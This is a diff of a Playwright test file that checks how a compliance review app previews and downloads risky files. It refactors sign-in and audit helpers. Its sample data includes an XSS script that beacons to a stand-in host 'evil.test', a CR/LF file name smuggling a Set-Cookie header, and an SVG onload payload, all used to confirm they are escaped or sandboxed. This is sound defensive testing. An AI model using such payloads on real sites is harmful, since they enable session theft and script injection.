@@ -1,11 +1,11 @@
 import { createHash } from "node:crypto";
 import { readFile } from "node:fs/promises";
-import type { BrowserContext, Page } from "@playwright/test";
+import type { Page } from "@playwright/test";
 import { FileDetail } from "@/lib/schemas/files";
 import { LONG_LOG_LAST_LINE } from "@/lib/simulator/dataset/file-bytes";
-import { expect, test } from "./support/fixtures";
-import { SMALL_SEED_1_ARTIFACTS, SMALL_SEED_1_PREVIEW_CORPUS } from "./support/simulator-ids";
-import { database, seedSession, SESSION_COOKIE, simulatorControl } from "./support/stack";
+import { expect, readAuditRows, test } from "./support/fixtures";
+import { SMALL_SEED_1_ARTIFACTS, SMALL_SEED_1_PREVIEW_CORPUS } from "@/tests/support/simulator-ids";
+import type { SeededSession } from "./support/stack";
 
 /** Chats and files of the `small` dataset, seed 1 (lib/simulator/dataset/fixtures.ts). */
 const FILES_CHAT = "claude_chat_01HwqSCVf9G3S9f4zHvrrQSZ";
@@ -62,15 +62,7 @@ const DOWNLOAD_NAMES: Array<[fileId: string, shown: string, saved: string]> = [
   [CORPUS.trailingSpace, "budget 2026.csv ", "budget 2026.csv"],
 ];
 
-let subject: string;
-let sessionCookie: string;
-
-async function signInAsReviewer(context: BrowserContext, baseURL: string) {
-  const session = await seedSession("reviewer");
-  await context.addCookies([{ name: SESSION_COOKIE, value: session.token, url: baseURL, httpOnly: true, sameSite: "Lax" }]);
-  subject = session.subject;
-  sessionCookie = `${SESSION_COOKIE}=${session.token}`;
-}
+let reviewer: SeededSession;
 
 /** Fails the test on any dialog: some payloads in the dataset call alert(). */
 function forbidDialogs(page: Page): string[] {
@@ -82,29 +74,20 @@ function forbidDialogs(page: Page): string[] {
   return dialogs;
 }
 
-async function setSimulatorFaults(rules: unknown[]) {
-  await simulatorControl("/_simulator/faults", "PUT", { rules });
-}
-
 async function download(page: Page) {
   const [started] = await Promise.all([page.waitForEvent("download"), page.getByRole("link", { name: "Download", exact: true }).click()]);
   return started;
 }
 
-const auditRows = async (action: string, targetId: string) =>
-  (
-    await database().query<{ outcome: string; params: Record<string, unknown> }>(
-      "SELECT outcome, params FROM audit_event WHERE actor_subject = $1 AND action = $2 AND target_id = $3 ORDER BY seq",
-      [subject, action, targetId],
-    )
-  ).rows;
+/** The reviewer's audited acts of one kind on one object. */
+const reviewerAudit = (action: string, targetId: string) => readAuditRows({ subject: reviewer.subject, action, targetId });
 
-test.beforeEach(async ({ context, baseURL }) => {
-  await signInAsReviewer(context, baseURL!);
+test.beforeEach(async ({ signedInAs }) => {
+  reviewer = await signedInAs("reviewer");
 });
 
-test.afterEach(async () => {
-  await setSimulatorFaults([]);
+test.afterEach(async ({ simulator }) => {
+  await simulator.clearFaults();
 });
 
 test("each preview type renders, with the MD5 verified", async ({ page }) => {
@@ -145,16 +128,20 @@ test("each preview type renders, with the MD5 verified", async ({ page }) => {
 
 for (const [fileId, shown, saved] of DOWNLOAD_NAMES) {
   test(`${JSON.stringify(shown)} is shown as text and downloads as ${JSON.stringify(saved)}, its bytes verified`, async ({ page }) => {
-    const detail = FileDetail.parse(await (await page.request.get(`/api/files/${fileId}`, { headers: { cookie: sessionCookie } })).json());
+    const detail = FileDetail.parse(await (await page.request.get(`/api/files/${fileId}`, { headers: { cookie: reviewer.cookie } })).json());
     await page.goto(`/files/${fileId}`);
     // The file's own header: a Markdown preview may hold a heading of the same name.
     await expect(page.getByRole("main").locator("header").getByRole("heading", { level: 1 })).toHaveText(shown);
     const file = await download(page);
     expect(file.suggestedFilename()).toBe(saved);
     expect(await file.failure()).toBeNull();
-    expect(createHash("md5").update(await readFile((await file.path())!)).digest("hex")).toBe(detail.recordedMd5);
+    expect(
+      createHash("md5")
+        .update(await readFile((await file.path())!))
+        .digest("hex"),
+    ).toBe(detail.recordedMd5);
     await expect(page.getByRole("status", { name: "Download outcome" })).toHaveAttribute("data-state", "verified");
-    expect((await auditRows("file.download", fileId)).map((row) => [row.outcome, row.params.md5 ?? null])).toEqual([
+    expect((await reviewerAudit("file.download", fileId)).map((row) => [row.outcome, row.params.md5 ?? null])).toEqual([
       ["intent", null],
       ["success", "matched"],
     ]);
@@ -162,7 +149,7 @@ for (const [fileId, shown, saved] of DOWNLOAD_NAMES) {
 }
 
 test("a CR/LF in a file name never becomes a header of its own, in the response or in the browser", async ({ page, context }) => {
-  const response = await page.request.get(`/api/files/${CORPUS.lineBreak}/download`, { headers: { cookie: sessionCookie } });
+  const response = await page.request.get(`/api/files/${CORPUS.lineBreak}/download`, { headers: { cookie: reviewer.cookie } });
   expect(response.status()).toBe(200);
   expect(response.headersArray().filter((header) => header.name.toLowerCase() === "set-cookie")).toEqual([]);
   expect(response.headers()["content-disposition"]).toBe(
@@ -175,7 +162,7 @@ test("a CR/LF in a file name never becomes a header of its own, in the response 
 });
 
 test("a name of 255 UTF-8 bytes is saved shortened on character boundaries, its extension kept, its bytes verified", async ({ page }) => {
-  const detail = FileDetail.parse(await (await page.request.get(`/api/files/${CORPUS.maxLength}`, { headers: { cookie: sessionCookie } })).json());
+  const detail = FileDetail.parse(await (await page.request.get(`/api/files/${CORPUS.maxLength}`, { headers: { cookie: reviewer.cookie } })).json());
   const original = detail.filename!;
   expect(Buffer.byteLength(original, "utf8")).toBe(255);
   await page.goto(`/files/${CORPUS.maxLength}`);
@@ -188,7 +175,11 @@ test("a name of 255 UTF-8 bytes is saved shortened on character boundaries, its 
   // Cut where a whole character ends, and no further than the next one would need.
   expect(Buffer.byteLength(saved, "utf8")).toBeGreaterThan(MAX_SAVED_NAME_BYTES - 4);
   expect(original.startsWith(saved.slice(0, -".txt".length))).toBe(true);
-  expect(createHash("md5").update(await readFile((await file.path())!)).digest("hex")).toBe(detail.recordedMd5);
+  expect(
+    createHash("md5")
+      .update(await readFile((await file.path())!))
+      .digest("hex"),
+  ).toBe(detail.recordedMd5);
   await expect(page.getByRole("status", { name: "Download outcome" })).toHaveAttribute("data-state", "verified");
 });
 
@@ -221,8 +212,12 @@ test("an HTML upload shows as source and a PDF with a JavaScript OpenAction as a
   await expect(page.getByTestId("text-preview")).toContainText('<script>window.__xss=1;navigator.sendBeacon("https://evil.test/html-upload")</script>');
   await expect(page.getByText("Web pages can carry scripts, so Docket shows this one's source and never renders it.")).toBeVisible();
   await expect(page.locator("main script, main iframe, main img, main embed, main object")).toHaveCount(0);
-  const html = await page.request.get(`/api/files/${CORPUS.html}/download`, { headers: { cookie: sessionCookie } });
-  expect(html.headers()).toMatchObject({ "content-type": "application/octet-stream", "x-content-type-options": "nosniff", "content-security-policy": "sandbox; default-src 'none'" });
+  const html = await page.request.get(`/api/files/${CORPUS.html}/download`, { headers: { cookie: reviewer.cookie } });
+  expect(html.headers()).toMatchObject({
+    "content-type": "application/octet-stream",
+    "x-content-type-options": "nosniff",
+    "content-security-policy": "sandbox; default-src 'none'",
+  });
 
   await page.goto(`/files/${CORPUS.pdfWithJavaScript}`);
   await expect(page.getByRole("status").filter({ hasText: "MD5 verified" })).toBeVisible();
@@ -239,7 +234,10 @@ test("an HTML upload shows as source and a PDF with a JavaScript OpenAction as a
 
 test("the thread's file chips write out hidden and direction-changing characters in names", async ({ page }) => {
   await page.goto(`/chats/${CORPUS_CHAT}`);
-  await expect(page.getByRole("link", { name: "File: minutes⟦U+000D⟧⟦U+000A⟧Set-Cookie: docket_session=stolen.txt" })).toHaveAttribute("href", `/files/${CORPUS.lineBreak}`);
+  await expect(page.getByRole("link", { name: "File: minutes⟦U+000D⟧⟦U+000A⟧Set-Cookie: docket_session=stolen.txt" })).toHaveAttribute(
+    "href",
+    `/files/${CORPUS.lineBreak}`,
+  );
   await expect(page.getByRole("link", { name: "File: contract⟦U+200F⟧ (signed).pdf" })).toHaveAttribute("href", `/files/${CORPUS.rightToLeftMark}`);
   await expect(page.getByRole("link", { name: "Artifact: Approval stamp" }).first()).toBeVisible();
   const chipTexts = await page.getByRole("list", { name: "Attachments" }).evaluateAll((lists) => lists.map((list) => list.textContent ?? ""));
@@ -262,12 +260,12 @@ test("a project attachment's hidden and direction-changing characters are writte
   expect(await attachments.evaluate((region) => /\u202E/.test(region.textContent ?? ""))).toBe(false);
 });
 
-test("an MD5 mismatch injected upstream raises the alarm, stops the download and is audited", async ({ page, serverErrors }) => {
+test("an MD5 mismatch injected upstream raises the alarm, stops the download and is audited", async ({ page, serverErrors, simulator }) => {
   const fileId = UPLOADED.docx;
   // The file is smaller than one piece, so the mismatch is found before its first byte would leave: the
   // response fails as a whole instead of breaking off.
   serverErrors.expect({ status: 500, url: new RegExp(`^/api/files/${fileId}/download\\?`) });
-  await setSimulatorFaults([{ match: { path: `/v1/compliance/apps/chats/files/${fileId}/content` }, fault: { type: "wrong_md5" } }]);
+  await simulator.setFaults([{ match: { path: `/v1/compliance/apps/chats/files/${fileId}/content` }, fault: { type: "wrong_md5" } }]);
   await page.goto(`/files/${fileId}`);
   const alarm = page.getByRole("alert").filter({ hasText: "MD5 mismatch" });
   await expect(alarm).toBeVisible();
@@ -277,9 +275,9 @@ test("an MD5 mismatch injected upstream raises the alarm, stops the download and
   expect(await stopped.failure()).not.toBeNull();
   await expect(page.getByRole("alert", { name: "Download outcome" })).toContainText("Download stopped");
 
-  const views = await auditRows("file.view", fileId);
+  const views = await reviewerAudit("file.view", fileId);
   expect(views.find((row) => row.params.part === "integrity")?.params).toMatchObject({ verdict: "mismatch", findings: ["served_md5_differs"] });
-  const downloads = await auditRows("file.download", fileId);
+  const downloads = await reviewerAudit("file.download", fileId);
   expect(downloads.map((row) => row.outcome)).toEqual(["intent", "failure"]);
   expect(downloads[1]!.params).toMatchObject({ md5: "mismatched" });
 });
@@ -295,16 +293,19 @@ test("SVG and markup in files never run on the app origin", async ({ page, baseU
 
   // Opened directly, the SVG is a download, not a document on Docket's origin.
   await page.goto(`/files/${HOSTILE_SVG}`);
-  const [svgDownload] = await Promise.all([page.waitForEvent("download"), page.evaluate((url) => void (window.location.href = url), `${baseURL}/api/files/${HOSTILE_SVG}/download`)]);
+  const [svgDownload] = await Promise.all([
+    page.waitForEvent("download"),
+    page.evaluate((url) => void (window.location.href = url), `${baseURL}/api/files/${HOSTILE_SVG}/download`),
+  ]);
   expect(svgDownload.suggestedFilename()).toBe("___svg onload=window.__xss=1_.svg");
-  const response = await page.request.get(`/api/files/${HOSTILE_SVG}/download`, { headers: { cookie: sessionCookie } });
+  const response = await page.request.get(`/api/files/${HOSTILE_SVG}/download`, { headers: { cookie: reviewer.cookie } });
   expect(response.headers()).toMatchObject({
     "content-type": "application/octet-stream",
     "x-content-type-options": "nosniff",
     "content-security-policy": "sandbox; default-src 'none'",
   });
   expect(response.headers()["content-disposition"]).toMatch(/^attachment; /);
-  const asImage = await page.request.get(`/api/files/${HOSTILE_SVG}/image`, { headers: { cookie: sessionCookie } });
+  const asImage = await page.request.get(`/api/files/${HOSTILE_SVG}/image`, { headers: { cookie: reviewer.cookie } });
   expect(asImage.status()).toBe(400);
   expect(asImage.headers()["content-type"]).toContain("application/json");
   expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
@@ -319,7 +320,7 @@ test("a generated file links the chat that produced it; an expired one offers no
   const saved = await download(page);
   expect(saved.suggestedFilename()).toBe("requirements_summary.csv");
   await expect(page.getByRole("status", { name: "Download outcome" })).toHaveAttribute("data-state", "verified");
-  expect((await auditRows("generated_file.download", GENERATED_CSV)).map((row) => row.outcome)).toEqual(["intent", "success"]);
+  expect((await reviewerAudit("generated_file.download", GENERATED_CSV)).map((row) => row.outcome)).toEqual(["intent", "success"]);
 
   await page.goto(`/generated-files/${EXPIRED_GENERATED}`);
   await expect(page.getByRole("status")).toContainText("holds no bytes");
@@ -327,7 +328,7 @@ test("a generated file links the chat that produced it; an expired one offers no
 });
 
 test("an uploaded file links its chat and the messages that reference it", async ({ page }) => {
-  const detail = FileDetail.parse(await (await page.request.get(`/api/files/${UPLOADED.pdf}`, { headers: { cookie: sessionCookie } })).json());
+  const detail = FileDetail.parse(await (await page.request.get(`/api/files/${UPLOADED.pdf}`, { headers: { cookie: reviewer.cookie } })).json());
   expect(detail.messageIds).toHaveLength(2);
   await page.goto(`/files/${UPLOADED.pdf}`);
   await expect(page.getByRole("status").filter({ hasText: "MD5 verified" })).toBeVisible();
@@ -335,7 +336,7 @@ test("an uploaded file links its chat and the messages that reference it", async
   for (const messageId of detail.messageIds) {
     await expect(page.getByRole("link", { name: messageId })).toHaveAttribute("href", `/chats/${FILES_CHAT}?message=${messageId}`);
   }
-  const viewed = (await auditRows("file.view", UPLOADED.pdf)).map((row) => row.params.part);
+  const viewed = (await reviewerAudit("file.view", UPLOADED.pdf)).map((row) => row.params.part);
   expect(viewed).toContain("metadata");
   expect(viewed).toContain("integrity");
 });
